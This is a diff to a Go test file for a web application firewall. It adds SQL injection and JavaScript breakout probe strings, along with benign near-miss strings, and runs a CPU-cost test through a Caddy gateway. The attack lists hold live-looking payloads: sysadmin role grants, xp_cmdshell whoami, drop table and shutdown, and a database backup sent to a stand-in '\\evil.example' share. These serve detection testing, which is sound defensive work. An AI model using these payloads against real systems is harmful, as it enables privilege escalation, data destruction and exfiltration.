@@ -1,23 +1,58 @@
 package waf
 
-import "testing"
+import (
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+)
 
 // attack78Attacks are attack 78's finds and the Open list's sort probes
 // closed with them: POSITION('a' IN password) as a sort key, a JavaScript
 // breakout into a template compiler (Vue.compile, _.template), SQL Server's
-// REVERT, WRITETEXT, UPDATETEXT and SEND ON CONVERSATION.
+// REVERT, WRITETEXT, UPDATETEXT and SEND ON CONVERSATION; SQL Server
+// statements after a sort key or an operand (name desc delete from users,
+// null shutdown), RECEIVE and ADD SIGNATURE.
 var attack78Attacks = []string{"position('a' in password)", "POSITION ( 'ab' IN users.password )",
 	"'-Vue.compile(name)-'", "'-_.template(name)()-'", "'-Handlebars.compile(name)()-'", "');Vue.compile(location.hash.slice(1))//",
 	"x' revert--", "x' writetext users.bio @p 'pwned'--", "x' updatetext users.bio @p 0 null 'pwned'--", "x' writetext bulk users.bio 0x1 'x'--",
-	"x' send on conversation @h ('x')--"}
+	"x' send on conversation @h ('x')--",
+	// a statement after a sort key or an operand that is not a number
+	"name desc exec sp_addsrvrolemember 'me','sysadmin'", "name desc delete from users", "name delete from users--",
+	"name asc insert into users values('me','admin')", "name desc update users set role=1",
+	`name desc backup database app to disk='\\evil.example\s\a.bak'`, "name truncate table audit_log",
+	"price create login x with password='P@ssw0rd!1'", "[name] delete from users", `"name" delete from users`, "name desc if 1=1 delete from users",
+	"name desc offset 0 rows fetch next 1 rows only delete from users", "asc exec sp_addsrvrolemember 'me','sysadmin'",
+	"null insert into users values('me','admin')", "null exec sp_addsrvrolemember 'me','sysadmin'", "null shutdown", "@@spid shutdown",
+	"id update users set role=1", "user_id drop table users", "null grant control to public", "null alter login sa enable",
+	`null restore database app from disk='\\evil\a'`, "(id) delete from users", "+id delete from users", "current_user delete from users",
+	"sysdatetime() delete from users", "id) delete from users--", "@@spid) insert into users values(1)--", "name, price desc drop table users",
+	// kinds 210201 did not read
+	"x' receive top(1) * from dbo.q--", "x' waitfor (receive * from q)--", "x' receive conversation_handle, message_body from q--",
+	"x' add signature to dbo.p by certificate c--", "x' add counter signature to dbo.p by certificate c--",
+	// string endings 210201 still reads
+	"x' exec @r = dbo.p 'a", "x' writetext t.c @p '",
+	"x' delete from users where name like '%", "x' /* ' */ delete from users--", "x' 'a' delete from users--"}
 
 // attack78CRS are refused by the CRS alone too.
-var attack78CRS = []string{"name,position('a' in password) desc"}
+var attack78CRS = []string{"name,position('a' in password) desc", "x' exec xp_cmdshell 'whoami", "x' update users set a='",
+	"x' insert into t select password '"}
 
 // attack78Benign are near-misses.
 var attack78Benign = []string{"position", "position desc, name", "sort by position('a' in b) for prose", "the position (x) of a point",
 	"Run 'npm run build' - compile(x) takes a while", "The 'Blog' template (template.html) is ready", "Vue.compile('<div/>') returns a render function",
-	"Don't rollback -- it's fine", "Don't revert -- it is fine", "The 'send' button -- send on conversation threads", "Please revert -- don't merge"}
+	"Don't rollback -- it's fine", "Don't revert -- it is fine", "The 'send' button -- send on conversation threads", "Please revert -- don't merge",
+	// attack 78's false positives of 210201: statements quoted in prose, a
+	// statement inside SQL's second string
+	"Tip: use 'OPEN SYMMETRIC KEY SSN_Key_01 DECRYPTION BY CERTIFICATE HumanResources037' before you decrypt",
+	"Use 'ALTER DATABASE SCOPED CONFIGURATION SET MAXDOP = 4' on Azure SQL", "Run 'CREATE INDEX ix_name ON users(name)' to speed it up",
+	"I always run 'RESTORE HEADERONLY FROM DISK = N''x.bak''' first", "Our DBA said: 'BACKUP LOG db TO DISK = ''nul''' fixes the log growth",
+	"I'm using 'CREATE USER app FOR LOGIN app' -- is that right?", "It's 'merge into target using source on ...' in Oracle",
+	"Choose 'Edit' and update profile set to public -- easy", "Kids' art: create table decorations from paper -- fun",
+	"Use 'merge' then merge branch using rebase -- cleaner",
+	// one word before a statement that takes nothing, or with no SQL in it
+	"Server shutdown", "Please create user profiles", "Admins drop table reservations", "Students' receive mail from teachers -- daily",
+	"Parents' receive a letter from school -- ok", "Please 'add signature to the form' -- thanks"}
 
 // TestAttack78: the gateway's rules refuse attack78Attacks through a real
 // Caddy (in the query and JSON) and none of attack78Benign.
@@ -25,4 +60,21 @@ func TestAttack78(t *testing.T) {
 	operatorTable(t, "2101xx/2102xx", func(v string) bool {
 		return tsqlStatement(v) || sortListProbe(v) || oracleFunction(v) || jsStringBreakout(v) || shellPrefixed(v)
 	}, attack78Attacks, attack78CRS, attack78Benign)
+}
+
+// TestCPUBoundTSQLLed: 16 KiB of the shapes attack 78's readings meet
+// (sort keys and operands before a statement, many strings and comments
+// before one, many statements before one quote left open, receive lists)
+// cost what the bound allows.
+func TestCPUBoundTSQLLed(t *testing.T) {
+	tableOnly(t)
+	base, _ := startCaddy(t, "waf")
+	margin := time.Duration(cpuMargin)
+	for _, unit := range []string{"null delete from a ", "name, ", "'a' ", "/* ", "/* */ ", "x' delete from a where b ", "' exec a.b ", "' receive a, ",
+		"' add counter signature to a by ", "x' delete from a.[b] where c like "} {
+		body := repeatedJSON(unit)
+		req, _ := http.NewRequest("POST", base+"/api/items", strings.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		readUnder(t, req, unit+" over and over, JSON", margin*urlsBound)
+	}
 }
